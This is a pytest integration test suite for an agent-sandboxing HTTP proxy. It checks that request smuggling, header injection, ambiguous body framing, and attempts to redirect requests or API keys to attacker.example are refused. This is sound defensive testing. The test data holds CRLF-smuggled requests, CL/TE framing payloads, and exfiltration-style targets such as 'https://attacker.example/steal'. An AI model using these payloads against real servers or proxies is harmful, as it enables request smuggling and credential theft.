"""Message hygiene and one authority per request, seen on the wire behind the proxy.

Each case is an attack that once went through: the upstream here records raw
bytes, so a request split in two, an absolute-form target or a header carrying
CR LF would be visible exactly as a server or CDN front would receive it.
"""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
import trustme

from tests.integration.proxy.conftest import PLACEHOLDER, REAL_KEY, ports_of, write_config
from tests.support.fake_dns import FakeDns
from tests.support.proxy import ProxyProcess
from tests.support.rawclients import h1_in_tunnel, h2_request, read_all, tunnel
from tests.support.rawupstream import RawUpstream

pytestmark = pytest.mark.integration


@pytest.fixture(scope="module")
def raw_upstream(fake_ca: trustme.CA) -> Iterator[RawUpstream]:
    names = ["api.anthropic.com", "github.com", "attacker.example"]
    with RawUpstream(fake_ca, names) as server:
        yield server


@pytest.fixture(scope="module")
def proxy(
    tmp_path_factory: pytest.TempPathFactory, fake_dns: FakeDns, raw_upstream: RawUpstream
) -> Iterator[ProxyProcess]:
    tmp = tmp_path_factory.mktemp("smuggling")
    config = write_config(
        tmp / "config.yaml", fake_dns, "rate_limit: false", served=ports_of(raw_upstream)
    )
    proc = ProxyProcess(
        config, tmp, upstream_ca=raw_upstream.ca_pem, env={"ANTHROPIC_API_KEY": REAL_KEY}
    ).start()
    yield proc
    assert proc.stop() == 0, proc.stderr


@pytest.fixture
def wire(raw_upstream: RawUpstream) -> RawUpstream:
    raw_upstream.clear()
    return raw_upstream


def _status(raw: bytes) -> int:
    return int(raw.split(b" ", 2)[1])


def _blocked(raw: bytes) -> dict[str, object]:
    head, _, body = raw.partition(b"\r\n\r\n")
    assert b"x-agentcage-blocked" in head.lower(), raw
    return json.loads(body)  # type: ignore[no-any-return]


def _send(proxy: ProxyProcess, up: RawUpstream, host: str, request: str | bytes) -> bytes:
    data = request.encode() if isinstance(request, str) else request
    return h1_in_tunnel(proxy.port, f"{host}:{up.tls_port}", proxy.ca_cert, data)


def _send_head(proxy: ProxyProcess, up: RawUpstream, first: bytes, header: bytes) -> bytes:
    """`first` line, Host for github.com, one more `header` line, Connection: close."""
    host = f"github.com:{up.tls_port}".encode()
    head = first + b"\r\nHost: " + host + b"\r\n" + header + b"\r\nConnection: close\r\n\r\n"
    return _send(proxy, up, "github.com", head)


# --- 1. header injection and request splitting -----------------------------------------


def test_http2_header_value_with_crlf_never_splits_the_upstream_request(
    proxy: ProxyProcess, wire: RawUpstream
) -> None:
    target = f"api.anthropic.com:{wire.tls_port}"
    smuggled = (
        f"a\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: attacker.example\r\nx-api-key: {PLACEHOLDER}"
    )
    answer = h2_request(
        proxy.port,
        target,
        proxy.ca_cert,
        [
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", target),
            (":path", "/split"),
            ("x-t", smuggled),
        ],
    )
    assert answer.status == 400
    assert json.loads(answer.body)["inspector"] == "protocol"
    assert wire.wire == b""
    line = proxy.wait_for_audit(lambda r: r["path"] == "/split")
    assert line["verdict"] == "block" and line["inspector"] == "protocol"
    assert REAL_KEY not in proxy.audit_text()


@pytest.mark.parametrize(
    "value",
    [b"a\x00b", b"a\rb", b"a\x0bb", b"a\x7fb"],
    ids=["nul", "bare-cr", "vertical-tab", "del"],
)
def test_http1_header_value_with_control_bytes_is_refused(
    proxy: ProxyProcess, wire: RawUpstream, value: bytes
) -> None:
    raw = _send_head(proxy, wire, b"GET /ctl HTTP/1.1", b"X-T: " + value)
    assert _status(raw) == 400
    assert _blocked(raw)["inspector"] == "protocol"
    assert wire.wire == b""


@pytest.mark.parametrize(
    "name",
    [b"Host ", b"X Y", b"X-\x01", b"X-{{A}}", b":path"],
    ids=["trailing-space", "space", "control", "braces", "pseudo"],
)
def test_http1_header_name_that_is_not_a_token_is_refused(
    proxy: ProxyProcess, wire: RawUpstream, name: bytes
) -> None:
    raw = _send_head(proxy, wire, b"GET /name HTTP/1.1", name + b": v")
    # mitmproxy's own parser refuses some of these first; either way: 400, nothing sent.
    assert _status(raw) == 400
    assert wire.wire == b""


@pytest.mark.parametrize(
    "framing",
    [
        "Content-Length: 3\r\nTransfer-Encoding: chunked\r\n",
        "Transfer-Encoding: gzip, chunked\r\n",
        "Content-Length: 3\r\nContent-Length: 3\r\n",
    ],
    ids=["cl-and-te", "te-not-only-chunked", "two-lengths"],
)
def test_http1_ambiguous_body_framing_is_refused(
    proxy: ProxyProcess, wire: RawUpstream, framing: str
) -> None:
    host = f"github.com:{wire.tls_port}"
    raw = _send(
        proxy,
        wire,
        "github.com",
        f"POST /frame HTTP/1.1\r\nHost: {host}\r\n{framing}Connection: close\r\n\r\n"
        "3\r\nabc\r\n0\r\n\r\n",
    )
    assert _status(raw) == 400
    assert wire.wire == b""


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("transfer-encoding", "chunked"),
        ("connection", "keep-alive"),
        ("upgrade", "h2c"),
        ("te", "gzip"),
        ("keep-alive", "timeout=5"),
    ],
)
def test_http2_connection_specific_headers_are_refused(
    proxy: ProxyProcess, wire: RawUpstream, name: str, value: str
) -> None:
    target = f"github.com:{wire.tls_port}"
    answer = h2_request(
        proxy.port,
        target,
        proxy.ca_cert,
        [
            (":method", "POST"),
            (":scheme", "https"),
            (":authority", target),
            (":path", "/conn-specific"),
            (name, value),
        ],
        body=b"abc",
    )
    assert answer.status in (0, -1, 400)  # refused by us or by the HTTP/2 stack
    assert wire.wire == b""


@pytest.mark.parametrize(
    "method",
    [b"SK-ANT-API03-SECRET", b"get", b"FOO", b"G\x01T"],
    ids=["secret-as-method", "lower-case", "unregistered", "control"],
)
def test_unregistered_methods_are_refused(
    proxy: ProxyProcess, wire: RawUpstream, method: bytes
) -> None:
    raw = _send_head(proxy, wire, method + b" /m HTTP/1.1", b"X-A: 1")
    assert _status(raw) == 400
    assert wire.wire == b""
    assert b"SK-ANT" not in proxy.audit_text().encode()


def test_registered_methods_pass(proxy: ProxyProcess, wire: RawUpstream) -> None:
    for method in ("PROPFIND", "REPORT", "PATCH", "OPTIONS"):
        raw = _send_head(proxy, wire, f"{method} /dav HTTP/1.1".encode(), b"X-A: 1")
        assert _status(raw) == 200, raw
    assert wire.wire.count(b" /dav HTTP/1.1\r\n") == 4


# --- 2. one authority per request ---------------------------------------------------


@pytest.mark.parametrize(
    "target_line",
    [
        "https://attacker.example/steal",
        "http://attacker.example/steal",
        "https://attacker.example:{port}/steal",
        "https://github.com:1/steal",
    ],
    ids=["https", "http", "with-port", "other-port"],
)
@pytest.mark.parametrize("with_host", [True, False], ids=["host", "no-host"])
def test_absolute_form_target_must_name_the_tunnel(
    proxy: ProxyProcess, wire: RawUpstream, target_line: str, with_host: bool
) -> None:
    host = f"github.com:{wire.tls_port}"
    line = target_line.format(port=wire.tls_port)
    head = f"GET {line} HTTP/1.1\r\n" + (f"Host: {host}\r\n" if with_host else "")
    raw = _send(proxy, wire, "github.com", head + "Connection: close\r\n\r\n")
    assert _status(raw) == 403
    assert _blocked(raw)["inspector"] == "host-agreement"
    assert wire.wire == b""
    audit_line = proxy.wait_for_audit(lambda r: r["path"] == "/steal" and r["verdict"] == "block")
    assert audit_line["inspector"] == "host-agreement"


def test_agreeing_absolute_form_leaves_in_origin_form(
    proxy: ProxyProcess, wire: RawUpstream
) -> None:
    host = f"github.com:{wire.tls_port}"
    raw = _send(
        proxy,
        wire,
        "github.com",
        f"GET https://{host}/origin?q=1 HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n",
    )
    assert _status(raw) == 200
    assert wire.wire.startswith(b"GET /origin?q=1 HTTP/1.1\r\n")


@pytest.mark.parametrize(
    "path",
    [
        "https://attacker.example/x",
        f"https://{PLACEHOLDER}.attacker.example/x",
        "x",
        "attacker.example:443",
    ],
    ids=["absolute", "placeholder-in-authority", "relative", "authority-form"],
)
def test_http2_path_must_be_origin_form(proxy: ProxyProcess, wire: RawUpstream, path: str) -> None:
    target = f"api.anthropic.com:{wire.tls_port}"
    answer = h2_request(
        proxy.port,
        target,
        proxy.ca_cert,
        [(":method", "GET"), (":scheme", "https"), (":authority", target), (":path", path)],
    )
    assert answer.status in (0, 400, 403)
    assert wire.wire == b""
    assert REAL_KEY.encode() not in wire.wire


def test_connect_inside_a_tunnel_is_refused(proxy: ProxyProcess, wire: RawUpstream) -> None:
    target = f"github.com:{wire.tls_port}"
    with tunnel(proxy.port, target, proxy.ca_cert) as tls:
        tls.sendall(
            f"CONNECT attacker.example:{wire.tls_port} HTTP/1.1\r\n"
            f"Host: attacker.example:{wire.tls_port}\r\n\r\n".encode()
        )
        raw = read_all(tls)
    assert raw == b"" or _status(raw) in (400, 403, 405)
    assert wire.wire == b""
